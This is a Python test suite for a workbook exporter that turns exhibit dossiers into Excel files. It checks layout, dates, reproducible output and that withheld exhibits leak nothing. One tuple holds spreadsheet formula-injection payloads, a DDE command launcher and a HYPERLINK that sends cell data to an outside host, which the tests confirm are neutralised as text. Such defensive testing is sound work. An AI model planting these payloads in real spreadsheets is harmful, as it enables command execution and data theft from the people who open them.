"""The workbook, read back by another reader than its writer's memory."""

from __future__ import annotations

import time
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from evidence_desk.domain.editions import Audience, ExhibitState
from evidence_desk.domain.layouts import NumberStyle
from evidence_desk.exports.cells import Dress, excel_date
from evidence_desk.exports.workbook import write_workbook
from exports.dossiers import ARABIC, JOURNAL_HASH, concordance, dossier, exhibit
from office import converted, needs_calc

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "=cmd|' /C calc'!A0",
)


def _read(path: Path) -> Workbook:
    return load_workbook(path)


def _table(sheet: Worksheet) -> list[dict[str, object]]:
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in rows]


@pytest.mark.parametrize(
    ("language", "sheets"),
    [
        ("en", ["Exhibits", "Incidents", "Sections", "Concordance"]),
        ("fr", ["Pièces", "Incidents", "Plan", "Concordance"]),
    ],
)
def test_each_view_has_its_sheet_frozen_and_filtered(
    tmp_path: Path, language: str, sheets: list[str]
) -> None:
    out = tmp_path / "annex.xlsx"
    write_workbook(dossier(9, language, concordance=concordance(9)), out)
    book = _read(out)
    assert len(book.sheetnames) == 5
    assert book.sheetnames[1] == sheets[0]
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet.print_title_rows
    assert book["Exhibits" if language == "en" else "Pièces"].max_row == 10


@needs_calc
@pytest.mark.parametrize("language", ["en", "fr"])
def test_libreoffice_opens_it_and_saves_the_same(tmp_path: Path, language: str) -> None:
    out = tmp_path / "annex.xlsx"
    write_workbook(dossier(9, language, concordance=concordance(9)), out)
    opened = tmp_path / "opened"
    opened.mkdir()
    again = _read(converted("xlsx", opened, [out])[0])
    book = _read(out)
    assert again.sheetnames == book.sheetnames
    for sheet in book.worksheets:
        assert _values(again[sheet.title]) == _values(sheet)
        assert len(again[sheet.title]._images) == len(sheet._images)


def _values(sheet: Worksheet) -> list[list[object]]:
    """Every row that says anything, without empty cells behind it."""
    rows = [["" if one is None else one for one in row] for row in sheet.values]
    return [row[: len(row) - next(i for i, one in enumerate(row[::-1]) if one != "")]
            for row in rows if any(one != "" for one in row)]  # fmt: skip


def test_dates_are_dates_only_where_the_day_is_known(tmp_path: Path) -> None:
    out = tmp_path / "annex.xlsx"
    write_workbook(dossier(9), out)
    rows = _table(_read(out)["Exhibits"])
    by_number = {
        row["Number"] if "Number" in row else next(iter(row.values())): row for row in rows
    }
    dates = {
        value
        for row in by_number.values()
        for value in row.values()
        if isinstance(value, date | datetime)
    }
    assert datetime(2010, 9, 21) in dates
    assert datetime(2010, 11, 3, 5, 40) in dates
    texts = {value for row in rows for value in row.values() if isinstance(value, str)}
    assert "2010-09-21/2010-09-22" in texts  # the uncertain ones stay as they were written
    assert "2009-06~" in texts


@given(st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2200, 1, 1)))
def test_every_whole_day_comes_out_as_itself(moment: datetime) -> None:
    assert excel_date(moment.date().isoformat()) == moment.date()
    to_the_minute = moment.replace(second=0, microsecond=0)
    assert excel_date(to_the_minute.isoformat(timespec="minutes")) == to_the_minute


@given(
    st.sampled_from(
        ["2010", "2010-09", "2010-21", "2010-09-XX", "../2011", "2010-09-21?", "1850-01-01", ""]
    )
)
def test_no_uncertain_date_becomes_a_certain_one(edtf: str) -> None:
    assert excel_date(edtf) is None


@given(st.text(max_size=80), st.sampled_from(["", *"=+-@\t\r"]))
def test_no_text_ever_becomes_a_formula(text: str, start: str) -> None:
    sheet = Workbook().active
    Dress().put(sheet["A1"], start + text)
    assert sheet["A1"].data_type in ("s", "n")
    assert sheet["A1"].value is None or isinstance(sheet["A1"].value, str)
    assert sheet["A1"].data_type == "s" or sheet["A1"].value is None


def test_formulas_of_strangers_are_texts_after_reading_back(tmp_path: Path) -> None:
    out = tmp_path / "annex.xlsx"
    entries = tuple(
        exhibit(str(at), at, title=text, place=text, description=text, source=text)
        for at, text in enumerate(FORMULAS, 1)
    )
    write_workbook(replace(dossier(0), exhibits=entries, organisation=FORMULAS[0]), out)
    for sheet in _read(out):
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    with zipfile.ZipFile(out) as packed:
        for name in packed.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in packed.read(name)


def test_pictures_scripts_and_links_are_there(tmp_path: Path) -> None:
    out = tmp_path / "annex.xlsx"
    write_workbook(dossier(9), out, in_volume=0)
    sheet = _read(out)["Exhibits"]
    assert len(sheet._images) == 7  # two of nine are recordings of sound
    texts = {str(cell.value) for row in sheet.iter_rows() for cell in row}
    assert any(ARABIC in text for text in texts)
    targets = [cell.hyperlink.target for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert targets[0] == "exhibits/0001%20-%20exhibit.jpg"
    assert len(targets) == 9


def test_the_journal_is_anchored(tmp_path: Path) -> None:
    out = tmp_path / "annex.xlsx"
    write_workbook(dossier(2), out)
    about = _read(out).worksheets[0]
    said = {cell.value for row in about.iter_rows() for cell in row}
    assert {JOURNAL_HASH, "Journal entry that issued this edition"} <= said
    write_workbook(replace(dossier(2), issued_at=None), out)
    about = _read(out).worksheets[0]
    assert "Last journal entry" in {cell.value for row in about.iter_rows() for cell in row}


@pytest.mark.parametrize("language", ["en", "fr"])
def test_it_says_how_exhibits_are_numbered_and_what_is_not_told(
    tmp_path: Path, language: str
) -> None:
    out = tmp_path / "annex.xlsx"
    hidden = exhibit("10", 9, language, state=ExhibitState.WITHHELD)
    made = dossier(9, language, style=NumberStyle(prefix="P", start=7, digits=3))
    write_workbook(replace(made, exhibits=(*made.exhibits, hidden)), out)
    said = [str(cell.value) for sheet in _read(out).worksheets for row in sheet for cell in row]
    assert not [one for one in said if "{" in one]  # no form left as it is
    assert any("P-007" in one for one in said)
    withheld = "marked “withheld”" if language == "en" else "avec la mention"
    assert any(withheld in one for one in said)
    write_workbook(dossier(9, language, show_withheld=False), out)  # closed up: they are not in it
    closed = "do not appear in the list" if language == "en" else "ne figurent pas au bordereau"
    assert any(closed in str(row[1].value) for row in _read(out).worksheets[0])


def test_a_wide_sheet_is_printed_on_several_pages_side_by_side(tmp_path: Path) -> None:
    out = tmp_path / "annex.xlsx"
    write_workbook(dossier(9), out)
    sheets = _read(out)
    assert sheets["Exhibits"].page_setup.fitToWidth > 1
    assert sheets["Sections"].page_setup.fitToWidth == 1
    assert sheets["Exhibits"].print_title_cols


def test_the_same_dossier_gives_the_same_bytes(tmp_path: Path) -> None:
    write_workbook(dossier(3), tmp_path / "one.xlsx")
    time.sleep(1.1)  # the clock's second must have moved on
    write_workbook(dossier(3), tmp_path / "two.xlsx")
    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.xlsx").read_bytes()
    made = _read(tmp_path / "one.xlsx").properties.modified
    assert made == datetime(2011, 6, 1, 9, 30, tzinfo=UTC).replace(tzinfo=None)


def test_a_withheld_exhibit_is_a_number_and_no_more(tmp_path: Path) -> None:
    secret = "NameOfAWitness"
    hidden = exhibit(
        "2", 1, state=ExhibitState.WITHHELD, title=secret, place=secret, name=secret, source=secret
    )
    made = replace(dossier(1), audience=Audience.PUBLIC)
    made = replace(made, exhibits=(*made.exhibits, hidden))
    for show in (True, False):
        out = tmp_path / f"{show}.xlsx"
        write_workbook(replace(made, show_withheld=show), out)
        with zipfile.ZipFile(out) as packed:
            assert all(secret.encode() not in packed.read(name) for name in packed.namelist())
        assert _read(out)["Exhibits"].max_row == (3 if show else 2)


def test_rows_are_high_enough_for_what_is_wrapped_in_them(tmp_path: Path) -> None:
    made = dossier(2)
    long = replace(made.exhibits[0], description="What is seen there. " * 40)
    out = tmp_path / "book.xlsx"
    write_workbook(replace(made, exhibits=(long, made.exhibits[1])), out)
    book = load_workbook(out)
    sheet = book.worksheets[1]
    assert sheet.row_dimensions[2].height > 100
    about = book.worksheets[0]
    heights = {about.cell(row, 1).value: about.row_dimensions[row].height for row in range(1, 17)}
    assert heights["Numbering"] > heights["Edition"]
